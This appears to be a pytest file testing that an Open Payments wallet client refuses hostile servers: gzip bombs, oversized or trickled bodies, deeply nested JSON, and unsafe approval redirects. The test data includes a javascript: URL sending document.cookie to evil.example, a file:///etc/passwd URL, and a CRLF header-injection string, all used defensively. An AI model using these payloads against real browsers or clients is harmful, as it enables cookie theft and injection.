"""A wallet that answers with more than any Open Payments answer holds, over real loopback HTTP.

The client reads every answer into memory to parse it; without a cap a hostile or broken
wallet (a body that never ends, a small gzip body that inflates to gigabytes, a
``Content-Length`` of 10 GiB) holds the whole process hostage. Each gives one clear
TransportError (the outcome of a POST is then unknown, which the flow already handles by
searching before paying again).
"""

from __future__ import annotations

import asyncio
import gzip
import json

import pytest

from opapprove.openpayments import errors, jsontext
from opapprove.openpayments import models as m
from opapprove.openpayments.client import OpenPaymentsClient
from opapprove.openpayments.transport import MAX_RESPONSE_BYTES
from tests.openpayments.client_support import CLIENT_WALLET, KEY, KID
from tests.raw_http import raw_server

WALLET = {
    "id": "http://127.0.0.1/alice",
    "assetCode": "USD",
    "assetScale": 2,
    "authServer": "http://127.0.0.1/auth",
    "resourceServer": "http://127.0.0.1/op",
}


def _inflating_wallet() -> bytes:
    """A valid wallet document padded to twice the cap: ~10 KiB on the wire, gzip'd."""
    text = json.dumps(WALLET)
    padded = text[:-1] + " " * (2 * MAX_RESPONSE_BYTES) + "}"
    return gzip.compress(padded.encode(), compresslevel=9)


def _refused(
    head: bytes, body: bytes, pause: float = 0.0, timeout: float = 2.0
) -> errors.TransportError:
    async def fetch() -> errors.TransportError:
        async with raw_server(head, body, pause) as url:
            client = OpenPaymentsClient(timeout=timeout, retries=0)
            try:
                with pytest.raises(errors.TransportError) as caught:
                    await client.get_wallet_address(f"{url}/alice")
            finally:
                await client.aclose()
        return caught.value

    return asyncio.run(fetch())


def test_a_body_that_inflates_past_the_cap_is_refused_not_read() -> None:
    bomb = _inflating_wallet()
    head = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
        b"Content-Length: " + str(len(bomb)).encode() + b"\r\n\r\n"
    )
    err = _refused(head, bomb)
    assert "with a body over 4 MiB" in str(err)
    assert err.hint and "not an Open Payments endpoint" in err.hint


def test_a_declared_length_over_the_cap_is_refused_before_reading() -> None:
    # 10 GiB announced, a few bytes sent: the client must not wait for (or take) the rest.
    head = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 10737418240\r\n\r\n"
    )
    err = _refused(head, b'{"id": ')
    assert "answered 200 with a body over 4 MiB" in str(err)


def test_a_body_trickled_slower_than_the_timeout_allows_times_out() -> None:
    # Every byte comes well within the timeout, so httpx's per-read timeout never fires;
    # the whole body takes ~2.4 s against a 0.5 s timeout.
    body = json.dumps(WALLET, separators=(",", ":")).encode()[:12]
    head = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n"
    )
    err = _refused(head, body, pause=0.2, timeout=0.5)
    assert "timed out after 0.5s" in str(err)


def _json_answer(status: int, body: bytes) -> bytes:
    return (
        f"HTTP/1.1 {status} X\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode()


def _nested(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


def _deep_wallet(levels: int) -> bytes:
    # A spec-shaped wallet document; documents keep extra members, so this one is read.
    return json.dumps(WALLET).encode()[:-1] + b', "extra": ' + _nested(levels) + b"}"


@pytest.mark.parametrize(
    ("status", "body", "error"),
    [
        (200, _nested(100_000), errors.InvalidResponse),  # past json's recursion limit
        (200, _deep_wallet(600), errors.InvalidResponse),  # parses; breaks what reads it
        (400, b'{"error": ' + _nested(100_000) + b"}", errors.ResourceError),
    ],
    ids=["past-the-parser", "deep-extra-member", "error-body"],
)
def test_json_nested_far_past_any_document_is_one_clear_error(
    status: int, body: bytes, error: type[errors.ResponseError]
) -> None:
    """json.loads raised RecursionError (a traceback, exit 1); 600 levels parsed, then the
    trace's redaction and pydantic's serializer each raised on it far from the wallet."""
    traced: list[object] = []

    async def fetch() -> errors.ResponseError:
        async with raw_server(_json_answer(status, body), body) as url:
            client = OpenPaymentsClient(
                retries=0, on_exchange=lambda exchange: traced.append(exchange.redacted())
            )
            try:
                with pytest.raises(error) as caught:
                    await client.get_wallet_address(f"{url}/alice")
            finally:
                await client.aclose()
        return caught.value

    err = asyncio.run(fetch())
    assert err.status == status and len(traced) == 1  # the --trace copy was made
    if status == 200:
        assert f"with JSON nested deeper than {jsontext.MAX_DEPTH} levels" in str(err)


@pytest.mark.parametrize(
    "redirect",
    [
        "javascript:fetch('https://evil.example/?c='+document.cookie)",
        "file:///etc/passwd",
        "vscode://evil.example/run",
        "https://wallet.example/interact\r\nSet-Cookie: x=1",
    ],
)
def test_an_approval_url_a_browser_would_not_just_show_is_refused(redirect: str) -> None:
    """The approval URL goes to a person's browser (``--open``, a QR code, the marketplace's
    link): from a hostile wallet's auth server, a script or a local file ran there."""
    body = json.dumps(
        {
            "interact": {"redirect": redirect, "finish": "4CF492MLVMSW9MKMXKHQ"},
            "continue": {
                "access_token": {"value": "33OMUKMKSKU80UPRY5NM"},
                "uri": "https://auth.wallet.example/continue/4CF492MLVMSW9MKMXKHQ",
                "wait": 5,
            },
        }
    ).encode()
    head = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n"
    )

    async def ask() -> errors.InvalidResponse:
        async with raw_server(head, body) as url:
            client = OpenPaymentsClient(key=KEY, key_id=KID, wallet_address_url=CLIENT_WALLET)
            try:
                with pytest.raises(errors.InvalidResponse) as caught:
                    await client.request_grant(url, m.quote_grant(CLIENT_WALLET))
            finally:
                await client.aclose()
        return caught.value

    assert "interact.redirect must be an http or https URL" in str(asyncio.run(ask()))
